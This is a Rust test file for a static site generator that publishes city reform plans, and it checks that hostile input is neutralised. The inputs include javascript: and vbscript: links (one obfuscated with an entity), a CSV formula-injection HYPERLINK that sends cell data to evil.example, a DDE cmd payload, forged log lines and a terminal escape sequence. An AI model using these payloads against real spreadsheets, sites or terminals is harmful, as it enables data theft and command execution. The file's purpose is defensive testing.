//! Hostile content, tried as an attacker would: links that run code, cells
//! that a spreadsheet runs, control characters that forge messages. Each
//! must be shown as text, neutralised or refused, and reported where it is.

mod common;

use std::fs;
use std::path::Path;

use common::*;

fn read(root: &Path, rel: &str) -> String {
    fs::read_to_string(root.join(rel)).unwrap()
}

/// Every `href`/`src`/`action` value of the page that starts with a scheme
/// able to run code, however the minifier quoted it.
fn code_addresses(html: &str) -> Vec<String> {
    let lower = html.to_ascii_lowercase();
    ["href=", "src=", "action="]
        .iter()
        .flat_map(|attr| lower.match_indices(attr).map(|(i, _)| i + attr.len()))
        .map(|at| {
            lower[at..]
                .trim_start_matches(['"', '\''])
                .chars()
                .take(12)
                .collect::<String>()
        })
        .filter(|v| {
            ["javascript", "vbscript", "data:"]
                .iter()
                .any(|s| v.starts_with(s))
        })
        .collect()
}

#[test]
fn links_that_run_code_are_text_and_warned_at_their_place() {
    let site = site("basic");
    let root = site.path();
    let hostile = "[a](javascript:alert(1)) [b](java&#115;cript:alert(2)) <javascript:alert(3)> [c][r] ![d](data:image/svg+xml,x) [ok](https://city.example/)\n\n[r]: vbscript:msgbox(4)\n";
    fs::write(
        root.join("content/_index.md"),
        format!("+++\n+++\n{hostile}"),
    )
    .unwrap();
    fs::write(
        root.join("content/testcity/_index.md"),
        format!("+++\nname = \"テスト市\"\n+++\n{hostile}"),
    )
    .unwrap();
    let plan = root.join("content/testcity/reform/_index.md");
    let text = fs::read_to_string(&plan).unwrap().replace(
        "行政経営の**見直し**",
        "行政経営の[見直し](javascript:alert(5))",
    );
    fs::write(&plan, format!("{text}\n{hostile}")).unwrap();
    let item = root.join("content/testcity/reform/01.md");
    let text = fs::read_to_string(&item).unwrap();
    fs::write(&item, format!("{text}\n{hostile}")).unwrap();

    let out = plansite(root, &["build", "--message-format", "short"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    let warned = |file: &str| {
        err.lines()
            .filter(|l| l.starts_with(file) && l.contains("which is not allowed"))
            .count()
    };
    for file in [
        "content/_index.md",
        "content/testcity/_index.md",
        "content/testcity/reform/_index.md",
        "content/testcity/reform/01.md",
    ] {
        assert!(
            warned(file) >= 5,
            "{file}: five unsafe links warned:\n{err}"
        );
    }
    // The description's link is found at its own line and column.
    assert!(
        err.contains("content/testcity/reform/_index.md:11:27: warning: the link address \"javascript:alert(5)\" uses the scheme \"javascript:\", which is not allowed"),
        "{err}"
    );
    for page in [
        "public/index.html",
        "public/testcity/index.html",
        "public/testcity/reform/index.html",
        "public/testcity/reform/01/index.html",
        "public/testcity/reform/print/index.html",
    ] {
        let html = read(root, page);
        assert_eq!(code_addresses(&html), Vec::<String>::new(), "{page}");
        assert!(html.contains("city.example"), "{page}: safe links stay");
    }
    // A site may allow another scheme, never one that runs code.
    let toml = root.join("site.toml");
    let settings = fs::read_to_string(&toml).unwrap();
    fs::write(&toml, format!("link_schemes = [\"data\"]\n{settings}")).unwrap();
    let out = plansite(root, &["build", "--message-format", "short"]);
    assert!(out.status.success());
    assert!(read(root, "public/testcity/reform/01/index.html").contains("data:image/svg+xml"));
}

#[test]
fn check_links_reports_addresses_that_run_code_in_any_page() {
    let site = site("basic");
    let root = site.path();
    let toml = root.join("site.toml");
    let settings = fs::read_to_string(&toml).unwrap();
    // Raw HTML the site allowed, and a static page: Markdown's rules do not
    // reach them, check --links does.
    fs::write(&toml, format!("allow_html = true\n{settings}")).unwrap();
    let item = root.join("content/testcity/reform/01.md");
    let text = fs::read_to_string(&item).unwrap();
    fs::write(
        &item,
        format!("{text}\n<a href=\"java&#115;cript:alert(1)\">x</a> <img src=\"data:image/png;base64,AA\">\n"),
    )
    .unwrap();
    fs::create_dir_all(root.join("static")).unwrap();
    fs::write(
        root.join("static/about.html"),
        "<a href=\"vbscript:msgbox(1)\">v</a>",
    )
    .unwrap();
    let out = plansite(root, &["check", "--links", "--message-format", "short"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    for expected in [
        "[output]/about.html: error: the link \"vbscript:msgbox(1)\" uses a scheme the site does not allow",
        "[output]/testcity/reform/01/index.html: error: the link \"javascript:alert(1)\" uses a scheme the site does not allow",
        "[output]/testcity/reform/01/index.html: error: the link \"data:image/png;base64,AA\" uses a scheme the site does not allow",
    ] {
        assert!(err.contains(expected), "{expected}\n---\n{err}");
    }
}

#[test]
fn cells_a_spreadsheet_would_run_are_neutralised_and_numbers_kept() {
    let site = site("basic");
    let root = site.path();
    fs::write(
        root.join("content/testcity/reform/03.md"),
        "+++\nnumber = \"3\"\ntitle = '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")'\ndepartments = [\"@SUM(1+1)*cmd|' /C calc'!A0\"]\n\n[[kpis]]\nname = \"+収支\"\nunit = \"千円\"\ntargets = { 2020 = -30095 }\nactuals = { 2020 = { value = -36127, note = \"-見込\" } }\n+++\n",
    )
    .unwrap();
    let out = plansite(root, &["build"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = read(root, "public/testcity/reform/data.csv");
    let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let header = rows.headers().unwrap().clone();
    let row = rows
        .records()
        .map(|r| r.unwrap())
        .find(|r| r.get(3) == Some("3"))
        .expect("the row of item 3");
    let get = |name: &str| {
        row.get(header.iter().position(|h| h == name).unwrap())
            .unwrap()
    };
    assert_eq!(
        get("項目名"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    );
    assert_eq!(get("担当課"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(get("成果指標"), "'+収支");
    assert_eq!(get("実績値の注記"), "'-見込");
    assert_eq!(get("目標値"), "-30095", "numbers stay numbers");
    assert_eq!(get("実績値"), "-36127");
    for (i, field) in row.iter().enumerate() {
        if header.get(i) != Some("目標値") && header.get(i) != Some("実績値") {
            assert!(
                !field.starts_with(['=', '+', '-', '@']),
                "{}: {field}",
                &header[i]
            );
        }
    }
    // items.csv and the site's files guard the same cells.
    for file in [
        "public/testcity/reform/items.csv",
        "public/data/items.csv",
        "public/data/kpis.csv",
    ] {
        let text = read(root, file);
        assert!(
            text.contains("'=HYPERLINK(") && !text.contains(",=HYPERLINK("),
            "{file}"
        );
        assert!(
            text.contains(",'@SUM(") && !text.contains(",@SUM("),
            "{file}"
        );
    }
}

#[cfg(unix)]
#[test]
fn names_and_values_cannot_forge_a_message_or_drive_the_terminal() {
    let site = site("basic");
    let root = site.path();
    // A file whose name would print as a line of its own, an error in
    // disguise, and a value that would clear the terminal.
    let forged = "x\n01.md:1:1: error: forged.md";
    fs::write(
        root.join("content/testcity/reform").join(forged),
        "+++\nnumber = \"9\"\ntitle = \"t\"\n+++\n",
    )
    .unwrap();
    fs::write(
        root.join("content/testcity/reform/03.md"),
        "+++\nnumber = \"3\"\ntitle = \"t\"\nstatus = { 2020 = \"\\u001b[2J\" }\n+++\n",
    )
    .unwrap();
    for format in ["short", "human"] {
        let out = plansite(root, &["build", "--message-format", format]);
        assert_eq!(out.status.code(), Some(1));
        let err = stderr(&out);
        assert!(!err.contains('\u{1b}'), "{format}: raw ESC in:\n{err}");
        assert!(
            !err.lines()
                .any(|l| l.starts_with("01.md:1:1: error: forged")),
            "{format}: a forged line:\n{err}"
        );
        assert!(
            err.contains("x\\n01.md:1:1: error: forged.md"),
            "{format}: {err}"
        );
        assert!(err.contains("U+001B (escape)"), "{format}: {err}");
    }
}
